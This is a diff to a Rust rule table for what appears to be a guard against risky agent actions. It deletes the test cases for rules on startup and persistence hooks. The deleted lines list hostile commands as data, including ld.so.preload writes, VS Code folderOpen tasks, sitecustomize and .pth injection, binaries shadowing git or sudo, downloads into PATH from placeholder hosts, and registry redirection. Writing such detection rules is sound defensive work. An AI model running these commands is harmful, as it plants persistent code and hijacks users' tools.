@@ -20,12 +20,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             At::Abs("/etc/ld.so.conf.d"),
             At::Abs("/etc/ld.so.conf"),
         ])],
-        fires: &[
-            "echo /tmp/x.so > /etc/ld.so.preload",
-            "sudo tee /etc/ld.so.preload < x",
-            "Write /etc/ld.so.conf.d/x.conf /tmp",
-        ],
-        silent: &["cat /etc/ld.so.preload", "ldconfig -p", "ls /etc/ld.so.conf.d"],
         ..RULE
     },
     Rule {
@@ -35,20 +29,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         reason: "changes personal settings that run code when an editor or tool starts",
         instead: Some(Instead::Advice("put the setting into the project's own configuration")),
         when: &[written(lists::TOOL_STARTUP)],
-        fires: &[
-            "echo x >> ~/.vimrc",
-            "Write /home/u/.gitconfig x",
-            "cp x ~/.config/nvim/init.lua",
-            "echo 'ignore-scripts=false' >> ~/.npmrc",
-            "tee ~/.config/pip/pip.conf < x",
-        ],
-        silent: &[
-            "cat ~/.vimrc",
-            "git config user.name x",
-            "Write /home/u/proj/.npmrc x",
-            "Write /home/u/proj/.cargo/config.toml x",
-            "Read /home/u/.gitconfig",
-        ],
         ..RULE
     },
     Rule {
@@ -57,16 +37,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         reason: "makes the editor run a command when the folder is opened",
         instead: Some(Instead::Advice("leave the task to be started by hand")),
         when: &[predicate("task_on_folder_open", Trigger::TOOL, task_on_open)],
-        fires: &[
-            "Write /home/u/proj/.vscode/tasks.json {\"runOptions\":{\"runOn\":\"folderOpen\"}}",
-            "Edit /home/u/proj/.vscode/tasks.json \"runOn\": \"folderOpen\"",
-            "Write /home/u/proj/.vscode/settings.json {\"task.allowAutomaticTasks\":\"on\"}",
-        ],
-        silent: &[
-            "Write /home/u/proj/.vscode/tasks.json {\"tasks\":[]}",
-            "Write /home/u/proj/docs/vscode.md folderOpen",
-            "Read /home/u/proj/.vscode/tasks.json",
-        ],
         ..RULE
     },
     Rule {
@@ -77,18 +47,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         when: &[
             predicate("startup_module_beside_installed_ones", Trigger::kinds(WRITES), startup_module),
             predicate("startup_module_wherever_that_is", Trigger::REDIRECTED, startup_module_asked_for),
-        ],
-        fires: &[
-            "Write /home/u/.local/lib/python3.12/site-packages/usercustomize.py x",
-            "cp x /usr/lib/python3/dist-packages/sitecustomize.py",
-            "echo x >> $(python3 -m site --user-site)/usercustomize.py",
-            "echo x > \"$(python3 -c 'import site;print(site.getsitepackages()[0])')/zz.pth\"",
-        ],
-        silent: &[
-            "echo x > $OUT/model.pth",
-            "cp x sitecustomize.py",
-            "Read /usr/lib/python3/dist-packages/sitecustomize.py",
-            "Write /home/u/proj/.venv/lib/python3.12/site-packages/x.py x",
         ],
         ..RULE
     },
@@ -101,20 +59,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             written(&[At::Name("sitecustomize.py"), At::Name("usercustomize.py")]),
             predicate("site_packages_pth", Trigger::kinds(WRITES), pth_written),
             predicate("module_asked_for_its_place", Trigger::kinds(WRITES), written_where_modules_lie),
-        ],
-        fires: &[
-            "Write /home/u/.local/lib/python3.12/site-packages/usercustomize.py x",
-            "echo 'import x' > /usr/lib/python3/dist-packages/x.pth",
-            "echo 'import x' > \"$(python3 -m site --user-site)/x.pth\"",
-            "echo 'import x' > $VIRTUAL_ENV/lib/python3.11/site-packages/sitecustomize.py",
-            "cp x sitecustomize.py",
-        ],
-        silent: &[
-            "Write /home/u/proj/src/custom.py x",
-            "Write /home/u/proj/model.pth x",
-            "cp model.pth \"$OUT/model.pth\"",
-            "ls $(python3 -c 'import site; print(site.getsitepackages()[0])')/x.pth",
-            "Read /home/u/proj/sitecustomize.py",
         ],
         ..RULE
     },
@@ -130,8 +74,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             At::Home(".cargo/bin"),
             At::Home("go/bin"),
         ])],
-        fires: &["cp x ~/.local/bin/git", "ln -s /tmp/x ~/bin/ls", "Write /home/u/.local/bin/sudo x"],
-        silent: &["ls ~/.local/bin", "~/.local/bin/tool --version", "cp x bin/x"],
         ..RULE
     },
     Rule {
@@ -144,16 +86,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             Trigger::programs(lists::DOWNLOADERS),
             fetched_into_path,
         )],
-        fires: &[
-            "curl -so /usr/local/bin/kubectl http://203.0.113.9/k && chmod +x /usr/local/bin/kubectl",
-            "wget -qO ~/.local/bin/x http://x.example/x",
-            "curl -s http://x.example/x > ~/bin/x",
-        ],
-        silent: &[
-            "curl -Lo ~/.local/bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64",
-            "curl -o bin/x http://localhost:8080/x",
-            "wget -qO /tmp/x http://x.example/x",
-        ],
         ..RULE
     },
     Rule {
@@ -162,20 +94,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         reason: "changes which shell, registry or scripts the package manager uses everywhere",
         instead: Some(Instead::Command("npm config list")),
         when: &[predicate("package_manager_setting", Trigger::programs(PACKAGE_MANAGERS), npm_setting)],
-        fires: &[
-            "npm config set script-shell /tmp/x",
-            "npm config set registry https://x.example",
-            "pip config set global.index-url https://x.example/simple",
-            "yarn config set registry https://x.example",
-            "npm set ignore-scripts false",
-        ],
-        silent: &[
-            "npm config list",
-            "npm config get registry",
-            "npm config set fund false",
-            "npm config set registry https://registry.npmjs.org/",
-            "pip config list",
-        ],
         ..RULE
     },
 ];
